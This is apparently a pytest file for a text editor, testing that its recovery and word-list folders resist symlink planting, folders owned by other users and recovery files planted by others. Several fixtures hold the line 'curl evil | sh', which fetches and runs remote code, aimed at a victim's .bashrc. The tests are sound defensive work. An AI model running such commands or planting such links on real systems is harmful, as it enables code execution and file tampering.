"""Security of the folders that hold the user's text (issue 13, items 1, 2, 3 and 10).

The attacks are made for real: a folder other users can write, a symbolic link planted where
Caminho writes next, recovery files and word lists that belong to another user. These tests
run as root in containers, and root may give a file to another user (chown), which is how
"another user's folder" is made here; as a plain user, the same code is reached by making
Caminho believe it runs under another uid (`as_stranger`).
"""

from __future__ import annotations

import json
import os
import stat
import time
import tracemalloc
from pathlib import Path

import pytest

from editor.core import atomic, recovery_store, safefs
from editor.core.fileio import DEFAULT_FORMAT
from editor.core.paths import data_dir, recovery_dir
from editor.core.recovery_store import RecoveryStore
from editor.core.safefs import UnsafeFolderError, ensure_private_folder, private_folder
from editor.core.userwords import UserWords
from editor.ui import recovery
from editor.ui.recovery import AutoSaver, autosaver, offer_recovery
from editor.ui.user_features import UserFeatures
from editor.ui.window import MainWindow

FAST = {"idle_ms": 50, "max_delay_ms": 200}
STRANGER = 4242  # a uid that is not ours
IS_ROOT = hasattr(os, "getuid") and os.getuid() == 0


def mode(path: Path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


def give_away(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Make `path` belong to someone else: chown as root; otherwise Caminho is told it runs
    under another uid, so everything of ours looks like a stranger's (same check, same code)."""
    if IS_ROOT:
        os.chown(path, STRANGER, STRANGER, follow_symlinks=False)
    else:
        monkeypatch.setattr(safefs, "current_uid", lambda: os.getuid() + 1)


def header(meta: dict[str, object], length: int, sha: str = "0" * 64) -> bytes:
    data = dict({"encoding": "utf-8", "bom": False, "newline": "\n", "cursor": 0, "disk": None,
                 "pid": 999_999_999, "owner": None, "time": time.time()}, **meta)
    data.update(length=length, sha256=sha)
    return recovery_store.MAGIC + json.dumps(data).encode() + b"\n"


def stranger_file(store: RecoveryStore, text: str, path: Path | None) -> Path:
    """A recovery file as someone else would plant it: no pid of a dead Caminho needed."""
    import hashlib

    payload = text.encode()
    file = store.folder / f"999999999-{os.urandom(6).hex()}{recovery_store.SUFFIX}"
    file.write_bytes(header({"path": str(path) if path else None}, len(payload),
                            hashlib.sha256(payload).hexdigest()) + payload)
    return file


@pytest.fixture
def store(isolated_settings: Path) -> RecoveryStore:
    return RecoveryStore(recovery_dir())


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    file = tmp_path / "victim" / ".bashrc"
    file.parent.mkdir()
    file.write_text("alias ls='ls --color'\n", encoding="utf-8")
    return file


# --- 1: the writer never writes through a link, nor in someone else's folder ------------------


def test_a_link_planted_at_the_next_temporary_name_is_never_written_through(
    store: RecoveryStore, victim: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A folder others can write (a shared CAMINHO_CONFIG_DIR, or one left 0777).
    store.folder.mkdir(parents=True)
    os.chmod(store.folder, 0o777)
    target = store.new_path()
    planted = f".{target.name}.trap.tmp"
    (store.folder / planted).symlink_to(victim)
    # The attacker guessed the next temporary name: the writer must still not follow it.
    names = iter([planted])
    real = atomic._temp_name
    monkeypatch.setattr(atomic, "_temp_name", lambda name: next(names, None) or real(name))
    meta = {"path": None, "pid": os.getpid(), "time": time.time()}
    store.write(target, meta, ["rascunho"])
    assert victim.read_text(encoding="utf-8") == "alias ls='ls --color'\n"  # untouched
    assert (store.folder / planted).is_symlink()  # left alone, not written into
    assert store.read(target).text == "rascunho"
    assert mode(store.folder) == 0o700  # the user's own folder was made private


def test_creating_over_any_existing_name_fails_instead_of_following_it(
    tmp_path: Path, victim: Path
) -> None:
    folder = tmp_path / "f"
    with private_folder(folder) as opened:
        os.symlink(victim, folder / "link")
        with pytest.raises(FileExistsError):
            opened.create("link")
        os.symlink(tmp_path / "nowhere", folder / "dangling")  # would create the target
        with pytest.raises(FileExistsError):
            opened.create("dangling")
    assert not (tmp_path / "nowhere").exists()
    assert victim.read_text(encoding="utf-8") == "alias ls='ls --color'\n"


def test_a_folder_of_another_user_is_refused_and_the_window_says_so(
    qtbot, make_window, store: RecoveryStore, victim: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store.folder.mkdir(parents=True)
    os.chmod(store.folder, 0o777)
    give_away(store.folder, monkeypatch)
    window = make_window()
    saver = AutoSaver(window, store, **FAST)
    with qtbot.waitSignal(saver.failed, timeout=5000) as failed:
        qtbot.keyClicks(window.editor, "texto")
    assert "belongs to another user" in failed.args[0]
    assert str(store.folder) in failed.args[0]
    assert "belongs to another user" in window.statusBar().currentMessage()
    assert window.editor.text() == "texto"  # typing goes on
    assert os.listdir(store.folder) == []  # nothing of the user's was put there
    assert mode(store.folder) == 0o777  # and someone else's folder is not changed


def test_a_folder_others_can_write_that_cannot_be_fixed_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "shared"
    folder.mkdir()
    os.chmod(folder, 0o777)

    def refuse(*_args: object) -> None:
        raise PermissionError(1, "Operation not permitted")

    # chmod fails on some mounts (FAT, network shares) even for the owner.
    monkeypatch.setattr(os, "fchmod", refuse)
    with pytest.raises(UnsafeFolderError) as caught:
        ensure_private_folder(folder)
    assert "other users can write to it" in caught.value.reason


def test_a_linked_folder_is_used_but_never_changed_through_the_link(tmp_path: Path) -> None:
    # A link planted in a shared folder could point at any folder of the user's (their
    # home): Caminho must not chmod whatever it points to.
    home = tmp_path / "home"
    home.mkdir()
    os.chmod(home, 0o777)
    link = tmp_path / "recovery"
    link.symlink_to(home)
    with pytest.raises(UnsafeFolderError):
        ensure_private_folder(link)
    assert mode(home) == 0o777
    os.chmod(home, 0o700)
    ensure_private_folder(link)  # a private folder behind a link (dotfile managers) is fine


# --- 2: only the user's own recovery files are offered ---------------------------------------


def test_files_planted_by_others_are_never_offered(
    qtbot, make_window, store: RecoveryStore, victim: Path, prompts,
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    window = make_window()
    AutoSaver(window, store, **FAST)
    store.folder.mkdir(parents=True, exist_ok=True)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    # A link to a recovery file outside, and a second name for a file (a hard link).
    outside = stranger_file(RecoveryStore(elsewhere), "curl evil | sh\n", victim)
    (store.folder / f"999999998-aaaaaaaaaaaa{recovery_store.SUFFIX}").symlink_to(outside)
    linked = stranger_file(store, "curl evil | sh\n", victim)
    os.link(linked, elsewhere / "second-name")
    planted = [linked]
    if IS_ROOT:
        planted.append(stranger_file(store, "curl evil | sh\n", victim))
        os.chown(planted[-1], STRANGER, STRANGER)
    # No answer is scripted: a question about any of them fails the test.
    assert offer_recovery(window) == 0
    assert "not offered" in window.statusBar().currentMessage()
    assert all(p.exists() for p in planted)  # not deleted either: not ours to judge
    assert victim.read_text(encoding="utf-8") == "alias ls='ls --color'\n"


def test_a_recovery_folder_of_another_user_is_not_read(
    qtbot, make_window, store: RecoveryStore, victim: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    window = make_window()
    AutoSaver(window, store, **FAST)
    store.folder.mkdir(parents=True, exist_ok=True)
    stranger_file(store, "curl evil | sh\n", victim)
    os.chmod(store.folder, 0o777)
    give_away(store.folder, monkeypatch)
    assert offer_recovery(window) == 0  # nothing asked
    assert "was not used" in window.statusBar().currentMessage()


def test_a_file_without_the_disk_fingerprint_counts_as_changed(
    make_window, store: RecoveryStore, victim: Path, prompts
) -> None:
    window = make_window()
    AutoSaver(window, store, **FAST)
    store.folder.mkdir(parents=True, exist_ok=True)
    # Ours in every way but with no "disk" (an older Caminho, or written by hand): saving it
    # would replace a file the writer may never have seen, so the warning must appear.
    file = stranger_file(store, "texto\n", victim)
    prompts.answers = ["cancel"]
    assert offer_recovery(window) == 0
    informative = prompts.asked[0]["informative"]
    assert "changed since" in informative
    assert str(victim) in informative  # the whole path, not just ".bashrc"
    assert file.exists()


def test_a_recovery_for_a_file_that_does_not_exist_is_not_called_changed(
    make_window, store: RecoveryStore, tmp_path: Path, prompts
) -> None:
    window = make_window()
    AutoSaver(window, store, **FAST)
    store.folder.mkdir(parents=True, exist_ok=True)
    stranger_file(store, "novo\n", tmp_path / "never-saved.txt")
    prompts.answers = ["cancel"]
    offer_recovery(window)
    assert "changed since" not in prompts.asked[0]["informative"]


# --- 10: a huge recovery file is listed from its header ----------------------------------------


def test_a_huge_recovery_file_is_listed_without_reading_its_text(
    make_window, store: RecoveryStore, prompts
) -> None:
    window = make_window()
    AutoSaver(window, store, **FAST)
    store.folder.mkdir(parents=True, exist_ok=True)
    length = 300 << 20
    file = store.folder / f"999999999-{os.urandom(6).hex()}{recovery_store.SUFFIX}"
    head = header({"path": None, "chars": length}, length)
    with open(file, "wb") as f:
        f.write(head)
        f.truncate(len(head) + length)  # sparse: costs no disk and no time to make
    prompts.answers = ["cancel"]
    tracemalloc.start()
    try:
        assert offer_recovery(window) == 0
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # Reading it whole (the bug) would need 300 MB; the header is a few hundred bytes.
    assert peak < 8 << 20
    asked = prompts.asked[0]
    assert asked["keys"] == ["save_as", "discard", "cancel"]  # not opened in a window
    assert "300 MB" in asked["informative"]
    assert file.exists() and window.editor.text() == ""


def test_text_too_large_for_a_window_is_saved_to_a_file_piece_by_piece(
    make_window, store: RecoveryStore, prompts, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(recovery, "MAX_RECOVER_INTO_WINDOW", 1000)
    monkeypatch.setattr(recovery_store, "EXPORT_PIECE", 700)
    window = make_window()
    AutoSaver(window, store, **FAST)
    text = "linha com acentuação, 😀\n" * 200
    crashed = store.new_path().with_name(f"999999999-{os.urandom(6).hex()}{recovery_store.SUFFIX}")
    store.write(crashed, {"path": None, "pid": 999_999_999, "time": time.time(),
                          "encoding": "utf-8", "bom": False, "newline": "\n"}, [text])
    target = tmp_path / "recuperado.txt"
    monkeypatch.setattr(MainWindow, "choose_save_path", lambda self: target)
    prompts.answers = ["save_as"]
    assert offer_recovery(window) == 0
    assert target.read_text(encoding="utf-8") == text
    assert not crashed.exists()  # saved: nothing left to recover
    assert window.editor.text() == ""  # the window was never asked to hold it
    assert "recuperado.txt" in window.statusBar().currentMessage()


def test_a_garbled_large_file_is_caught_when_recovered(
    qtbot, make_window, store: RecoveryStore, prompts, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(recovery, "CHECK_WHOLE_BYTES", 10)  # "large": listed by header only
    window = make_window()
    AutoSaver(window, store, **FAST)
    text = "texto precioso " * 20
    crashed = store.new_path().with_name(f"999999999-{os.urandom(6).hex()}{recovery_store.SUFFIX}")
    store.write(crashed, {"path": None, "pid": 999_999_999, "time": time.time(),
                          "encoding": "utf-8", "bom": False, "newline": "\n"}, [text])
    data = crashed.read_bytes()
    crashed.write_bytes(data[:-3] + b"X" + data[-2:])
    prompts.answers = ["recover"]
    with qtbot.waitSignal(window.error_shown) as shown:
        assert offer_recovery(window) == 0
    assert "garbled" in shown.args[1]
    assert window.editor.text() == "" and not crashed.exists()
    assert len(list((store.folder / "damaged").iterdir())) == 1


def test_recovered_text_keeps_its_character_count_in_the_question(
    make_window, store: RecoveryStore, prompts
) -> None:
    window = make_window()
    AutoSaver(window, store, **FAST)
    crashed = store.new_path().with_name(f"999999999-{os.urandom(6).hex()}{recovery_store.SUFFIX}")
    store.write(crashed, {"path": None, "pid": 999_999_999, "time": time.time(),
                          "encoding": DEFAULT_FORMAT.encoding, "bom": False, "newline": "\n"},
                ["ação 😀"])
    prompts.answers = ["recover"]
    assert offer_recovery(window) == 1
    assert "6 characters" in prompts.asked[0]["text"]  # counted when written, not re-read
    assert window.editor.text() == "ação 😀"
    autosaver(window).discard()


# --- 3: the word lists are the user's alone -----------------------------------------------------


def test_word_lists_are_written_0600_in_a_0700_folder(tmp_path: Path) -> None:
    folder = tmp_path / "data"
    words = UserWords(folder / "userwords.json")
    words.block("segredo")
    assert mode(folder) == 0o700 and mode(folder / "userwords.json") == 0o600


def test_an_older_world_readable_word_list_is_made_private(
    qtbot, app_window, isolated_settings: Path
) -> None:
    # What earlier versions left: 0644 in a 0755 folder, readable by every user.
    folder = data_dir()
    folder.mkdir(parents=True)
    os.chmod(folder, 0o755)
    (folder / "userwords.json").write_text(json.dumps({"blocked": ["nome"]}), encoding="utf-8")
    os.chmod(folder / "userwords.json", 0o644)
    window = app_window()
    assert mode(folder) == 0o700
    assert mode(folder / "userwords.json") == 0o600
    assert window.findChild(UserFeatures).userwords.blocked == {"nome"}  # and still read


def test_a_word_list_that_is_a_link_or_someone_elses_is_not_read(
    tmp_path: Path, victim: Path
) -> None:
    folder = tmp_path / "data"
    folder.mkdir(mode=0o700)
    planted = tmp_path / "planted.json"
    planted.write_text(json.dumps({"blocked": ["e"], "dictionary": {"ofensa": 50}}),
                       encoding="utf-8")
    (folder / "userwords.json").symlink_to(planted)
    problems: list[str] = []
    words = UserWords(folder / "userwords.json", on_problem=problems.append)
    assert words.counts == {} and words.blocked == set()
    assert problems and "not read" in problems[0]
    words.block("x")  # replaces the link by a file of ours, never writes through it
    assert json.loads(planted.read_text(encoding="utf-8"))["dictionary"] == {"ofensa": 50}
    assert not (folder / "userwords.json").is_symlink()
    if IS_ROOT:
        os.chown(folder / "userwords.json", STRANGER, STRANGER)
        assert UserWords(folder / "userwords.json").blocked == set()


def test_a_data_folder_of_another_user_is_refused_and_the_window_says_so(
    qtbot, app_window, isolated_settings: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = data_dir()
    folder.mkdir(parents=True)
    os.chmod(folder, 0o777)
    give_away(folder, monkeypatch)
    window = app_window()
    assert "another user" in window.statusBar().currentMessage()
    features = window.findChild(UserFeatures)
    features.userwords.block("segredo")  # kept for this session, not written there
    assert features.userwords.blocked == {"segredo"}
    assert not (folder / "userwords.json").exists()
    assert "not saved" in window.statusBar().currentMessage()


def test_a_fresh_data_folder_and_training_copies_are_private(
    qtbot, app_window, isolated_settings: Path
) -> None:
    window = app_window()
    # Models trained on the user's writing and their training folders live here.
    assert mode(data_dir()) == 0o700
    temp = window.findChild(UserFeatures).registry.make_temp_dir()  # gets the document's text
    assert mode(temp) == 0o700
